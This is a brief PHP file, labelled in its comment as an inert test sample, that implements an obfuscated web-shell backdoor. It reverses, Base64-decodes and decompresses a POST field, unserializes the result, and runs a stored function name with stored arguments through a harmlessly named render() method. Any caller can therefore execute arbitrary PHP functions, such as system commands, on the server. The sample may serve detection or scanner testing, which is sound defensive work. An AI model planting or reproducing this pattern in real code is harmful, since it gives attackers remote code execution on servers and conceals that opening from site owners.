<?php
// inert test sample: the object comes from a gzipped, Base64 POST field; the class keeps a
// function name and arguments and spreads them into the call in an innocently named method
final class Q{public $h=array('strtolower');public $a=array('');
function render(){$f=$this->h[0];return $f(...$this->a);}}
$o=@unserialize(gzuncompress(base64_decode(strrev($_POST['q']))));
if(is_object($o)){print $o->render();}
